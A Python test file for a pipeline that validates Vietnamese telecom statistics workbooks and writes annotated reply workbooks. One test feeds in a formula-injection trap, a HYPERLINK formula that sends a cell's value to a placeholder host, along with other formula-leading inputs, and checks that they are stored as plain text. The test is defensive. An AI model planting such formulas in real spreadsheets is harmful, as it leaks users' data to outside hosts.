"""The reply workbook (issue #16): every corpus finding's comment sits on the cell it names, refused files get the
findings sheet only, no personal value is ever copied, text is never a formula, and a run writes one reply per
file with findings."""

from __future__ import annotations

import zipfile
from pathlib import Path

import dagster as dg
import openpyxl
import pytest

from assets.feedback import listed
from bench import hostile_corpus as hostile
from bench.corpus import CASES, HEADER, NAMES, TITLE, Case, rows
from bench.workbooks import write
from pipelines.validate import validate
from sources.common.findings import error, warning
from sources.feedback.reply import ERROR_RGB, FINDINGS_SHEET, WARNING_RGB, cell_refs, write_reply
from tests.pipeline_helpers import query, run_xhs

LOCATED = [c for c in CASES if c.cell]


def _reply(tmp_path: Path, path: Path, source: str | None = "telecom") -> tuple[str, list, openpyxl.Workbook]:
    status, result = validate(path, source)
    out = write_reply(tmp_path / "reply.xlsx", path.name, result.findings, status, path, default_sheet=result.sheet)
    return status, result.findings, openpyxl.load_workbook(out)


def _all_text(path: Path) -> str:
    """Every byte of text in the workbook's parts (cells, shared strings, comments, sheet names)."""
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode("utf-8", "replace") for n in z.namelist())


@pytest.mark.parametrize("case", LOCATED, ids=lambda c: c.name)
def test_every_corpus_rule_is_commented_on_its_cell(tmp_path: Path, case: Case) -> None:
    _, findings, wb = _reply(tmp_path, case.make(tmp_path))
    assert wb.sheetnames[0] == FINDINGS_SHEET
    first = next(f for f in findings if f.rule == case.rule)
    ws = wb[first.sheet]
    for ref in cell_refs(case.cell):
        cell = ws[ref]
        assert cell.comment is not None, f"{case.name}: no comment on {ref}"
        assert first.message_vi in cell.comment.text and first.message_en in cell.comment.text
        assert cell.fill.fgColor.rgb.endswith(ERROR_RGB)
    listed = [r for r in wb[FINDINGS_SHEET].iter_rows() if r[4].value == case.rule]
    assert listed and listed[0][3].hyperlink.location == f"'{first.sheet}'!{cell_refs(case.cell)[0]}"


def test_the_copy_keeps_every_value_at_its_address(tmp_path: Path) -> None:
    path = next(c for c in CASES if c.name == "text_in_numeric_cell").make(tmp_path)
    _, _, wb = _reply(tmp_path, path)
    original = openpyxl.load_workbook(path)["Biểu 01"]
    copy = wb["Biểu 01"]
    assert [[c.value for c in r] for r in copy.iter_rows()] == [[c.value for c in r] for r in original.iter_rows()]


@pytest.mark.parametrize("suffix", [".xls", ".csv"])
def test_xls_and_csv_are_converted_with_the_same_addresses(tmp_path: Path, suffix: str) -> None:
    path = write(tmp_path / f"vt_2022{suffix}", [TITLE, HEADER, *rows(mobile=[1000] * 7 + ["1.000 TB"])])
    _, findings, wb = _reply(tmp_path, path)
    [bad] = [f for f in findings if f.rule == "not_a_number"]
    assert bad.cell == "C10"
    assert wb[bad.sheet]["C10"].value == "1.000 TB" and "must be a number" in wb[bad.sheet]["C10"].comment.text
    assert wb[bad.sheet]["B3"].value == NAMES[0]


@pytest.mark.parametrize("case", [c for c in hostile.CASES if c.status == "unreadable"], ids=lambda c: c.name)
def test_refused_files_get_the_findings_sheet_only(tmp_path: Path, case: hostile.Hostile) -> None:
    path = case.make(tmp_path)
    status, findings, wb = _reply(tmp_path, path, None)
    assert status == "unreadable" and wb.sheetnames == [FINDINGS_SHEET]
    text = _all_text(tmp_path / "reply.xlsx")
    assert case.rule in text and findings[0].message_en.split(":")[0] in text
    for value in hostile.PERSONAL_VALUES:
        assert value not in text


def test_ranges_whole_columns_and_file_level_findings(tmp_path: Path) -> None:
    path = write(tmp_path / "vt.xlsx", [TITLE, HEADER, *rows()])
    findings = [
        error("made_up_range", "Khoảng sai.", "Range wrong.", sheet="Biểu 01", cell="C3:C5"),
        warning("made_up_column", "Cột D.", "Column D.", sheet="Biểu 01", cell="D"),
        error("about_the_file", "Cả tệp.", "The whole file."),
    ]
    wb = openpyxl.load_workbook(write_reply(tmp_path / "r.xlsx", path.name, findings, "invalid", path))
    ws = wb["Biểu 01"]
    assert all(ws[f"C{r}"].fill.fgColor.rgb.endswith(ERROR_RGB) for r in (3, 4, 5))
    assert not ws["C6"].fill.fgColor.rgb.endswith(ERROR_RGB)
    assert ws["D2"].fill.fgColor.rgb.endswith(WARNING_RGB) and ws["D10"].fill.fgColor.rgb.endswith(WARNING_RGB)
    assert ws["C3"].fill.fgColor.rgb.endswith(ERROR_RGB) and "Range wrong." in ws["C3"].comment.text
    sheet_text = " ".join(str(c.value) for r in wb[FINDINGS_SHEET].iter_rows() for c in r if c.value)
    assert "The whole file." in sheet_text
    assert not any(c.comment and "whole file" in c.comment.text for r in ws.iter_rows() for c in r)


def test_delivered_text_is_never_written_as_a_formula(tmp_path: Path) -> None:
    trap = '=HYPERLINK("http://example.invalid/?"&A2,"Bấm")'
    grid = [[trap], TITLE, HEADER, *rows(mobile=[1000] * 7 + ["@SUM(1)"]), [None, "-2+3", "+1", None]]
    path = hostile.write_zip(tmp_path / "bay.xlsx", hostile.workbook_parts(hostile.sheet_xml(grid)))
    _, _, wb = _reply(tmp_path, path)
    ws = wb["Sheet1"] if "Sheet1" in wb.sheetnames else wb.worksheets[1]
    assert ws["A1"].value == trap and ws["A1"].data_type == "s"
    with zipfile.ZipFile(tmp_path / "reply.xlsx") as z:
        assert not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in z.namelist() if n.startswith("xl/wor"))


def test_control_characters_and_odd_sheet_names_do_not_stop_the_reply(tmp_path: Path) -> None:
    path = tmp_path / "bao cao [1].csv"  # a CSV's sheet is named after the file: "[" is not allowed in Excel
    lines = [
        "Năm 2022",
        "STT,Đơn vị hành chính,Thuê bao di động,Trong đó: smartphone",
        *[f"{i + 1},{n},{'1000' if i < 7 else 'sai' + chr(1)},600" for i, n in enumerate(NAMES)],
    ]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    _, findings, wb = _reply(tmp_path, path)
    bad = next(f for f in findings if f.rule == "not_a_number")
    assert bad.sheet == "bao cao [1]" and wb.sheetnames == [FINDINGS_SHEET, "bao cao _1_"]
    copy = wb["bao cao _1_"]
    assert copy["C10"].value == "sai\ufffd" and "must be a number" in copy["C10"].comment.text
    assert copy["B3"].value == NAMES[0]


def test_validate_feedback_command_marks_the_bad_number_cell(tmp_path: Path) -> None:
    path = next(c for c in CASES if c.name == "text_in_numeric_cell").make(tmp_path)
    out = tmp_path / "phan hoi.xlsx"
    result = run_xhs(tmp_path, "validate", str(path), "--feedback", str(out))
    assert result.returncode == 1, result.stdout + result.stderr
    cell = openpyxl.load_workbook(out)["Biểu 01"]["C10"]
    assert "phải là số" in cell.comment.text and "must be a number" in cell.comment.text


@pytest.mark.deployment
def test_a_run_writes_one_reply_per_file_with_findings(tmp_path: Path) -> None:
    landing = tmp_path / "landing"
    write(landing / "telecom" / "vt_2022.xlsx", [TITLE, HEADER, *rows(), [None, "Tổng cộng", 8000, 4800]])
    write(landing / "telecom" / "vt_2022_loi.xlsx", [TITLE, HEADER, *rows(mobile=[1000] * 7 + ["mười"])])
    write(landing / "telecom" / "vt_2022_tong.xls", [TITLE, HEADER, *rows(), [None, "Tổng cộng", 8001, 4800]])
    next(c for c in hostile.CASES if c.name == "person_list").make(landing)  # danh_sach.xlsx
    first = run_xhs(tmp_path, "run")
    assert first.returncode == 1, first.stdout + first.stderr
    feedback = tmp_path / "data" / "feedback"
    with_findings = {
        p
        for (p,) in query(
            tmp_path, "SELECT DISTINCT m.landing_path FROM meta_file m JOIN meta_finding f ON f.file_sha256 = m.sha256"
        )
    }
    assert {"telecom/vt_2022_loi.xlsx", "telecom/vt_2022_tong.xls", "danh_sach.xlsx"} <= with_findings
    replies = {str(p.relative_to(feedback)) for p in feedback.rglob("*.xlsx")}
    assert replies == {f"{p} - kiem tra.xlsx" for p in with_findings}
    assert "reply" in first.stdout.lower() or "phản hồi" in first.stdout
    # one log line for a run's replies, however many (a first run at XL writes 1,600: one event each was 6 s), and
    # the step's metadata names each by its path in the feedback folder
    with dg.DagsterInstance.from_config(str(tmp_path / ".dagster")) as instance:
        [run] = instance.get_runs(limit=1)
        said = [e.user_message for e in instance.all_logs(run.run_id) if e.step_key == "reply_workbooks"]
        event = instance.get_latest_materialization_event(dg.AssetKey("reply_workbooks"))
    assert len([m for m in said if "phản hồi" in m]) == 1, said
    assert any(m.startswith(f"{len(with_findings)} replies written") for m in said), said
    assert event is not None and event.asset_materialization is not None
    named = event.asset_materialization.metadata["replies"].value
    assert sorted(named.splitlines()) == sorted(f"- {p} - kiem tra.xlsx" for p in with_findings)
    [report] = (tmp_path / "data" / "reports").glob("run-*.md")
    assert "(../feedback/telecom/vt_2022_loi.xlsx%20-%20kiem%20tra.xlsx)" in report.read_text(encoding="utf-8")
    loi = openpyxl.load_workbook(feedback / "telecom" / "vt_2022_loi.xlsx - kiem tra.xlsx")
    assert "must be a number" in loi["Biểu 01"]["C10"].comment.text
    people = feedback / "danh_sach.xlsx - kiem tra.xlsx"
    assert openpyxl.load_workbook(people).sheetnames == [FINDINGS_SHEET]
    for reply in feedback.rglob("*.xlsx"):
        text = _all_text(reply)
        assert not any(v in text for v in hostile.PERSONAL_VALUES), reply
    # The department corrects the file under the same name: its reply goes; the others are not rewritten.
    before = (feedback / "telecom" / "vt_2022_tong.xls - kiem tra.xlsx").stat().st_mtime_ns
    write(landing / "telecom" / "vt_2022_loi.xlsx", [TITLE, HEADER, *rows()])
    second = run_xhs(tmp_path, "run")
    assert second.returncode == 0, second.stdout + second.stderr
    assert not (feedback / "telecom" / "vt_2022_loi.xlsx - kiem tra.xlsx").exists()
    assert (feedback / "telecom" / "vt_2022_tong.xls - kiem tra.xlsx").stat().st_mtime_ns == before


def test_a_reply_is_written_again_when_its_findings_change_and_only_then(tmp_path: Path) -> None:
    """``write_replies`` decides from a digest of each file's findings (issue #28): the same findings keep the
    reply as it is; a finding added, changed or gone writes it again with them; no finding left removes it."""
    import duckdb

    from sources.archive.raw import RawArchive
    from warehouse.build import SQL_DIR
    from warehouse.replies import write_replies

    warehouse, folder = tmp_path / "xhs.duckdb", tmp_path / "feedback"
    with duckdb.connect(str(warehouse)) as con:
        for sql in sorted(SQL_DIR.glob("*.sql")):
            con.execute(sql.read_text(encoding="utf-8"))
        con.execute(
            "INSERT INTO meta_file VALUES ('a', 'vt.xlsx', 'telecom/vt.xlsx', 'telecom', '2024', '06', 'loaded', 1, "
            "TIMESTAMP '2026-01-01', TIMESTAMP '2026-01-01', 10, 0, 1), ('b', 'ok.xlsx', 'telecom/ok.xlsx', 'telecom', "
            "'2024', '06', 'loaded', 1, TIMESTAMP '2026-01-01', TIMESTAMP '2026-01-01', 10, 0, 0)"
        )

    def finding(sql: str, *values: str) -> None:
        with duckdb.connect(str(warehouse)) as con:
            con.execute(sql, list(values))

    add = (
        "INSERT INTO meta_finding VALUES ('a', 'vt.xlsx', 'Biểu 01', ?, 'year_on_year_jump', 'warning', ?, ?, "
        "NULL, NULL, NULL)"
    )
    finding(add, "C10", "C10 tăng 80%.", "C10 rose by 80%.")
    archive = RawArchive(tmp_path / "raw")
    reply = folder / "telecom" / "vt.xlsx - kiem tra.xlsx"
    assert write_replies(warehouse, archive, folder)["written"] == [reply]
    assert write_replies(warehouse, archive, folder)["kept"] == [reply]  # the same findings
    finding(add, "D11", "D11 tăng 90%.", "D11 rose by 90%.")  # a later file's check adds one
    assert write_replies(warehouse, archive, folder)["written"] == [reply]
    assert "D11 rose by 90%" in _all_text(reply)
    finding("UPDATE meta_finding SET message_en = 'C10 rose by 81%.' WHERE cell = 'C10'")
    assert write_replies(warehouse, archive, folder)["written"] == [reply]
    assert "C10 rose by 81%" in _all_text(reply)
    finding("DELETE FROM meta_finding")
    assert write_replies(warehouse, archive, folder)["removed"] == [reply] and not reply.exists()


def test_the_replies_named_in_the_metadata_are_bounded(tmp_path: Path) -> None:
    folder = tmp_path / "feedback"
    paths = [folder / "telecom" / f"vt_{i:04d} - kiem tra.xlsx" for i in range(7)]
    assert listed(paths, folder, limit=10) == [f"telecom/vt_{i:04d} - kiem tra.xlsx" for i in range(7)]
    assert listed(paths, folder, limit=3) == [
        "telecom/vt_0000 - kiem tra.xlsx",
        "telecom/vt_0001 - kiem tra.xlsx",
        "telecom/vt_0002 - kiem tra.xlsx",
        "… 4 more / và 4 tệp khác",
    ]
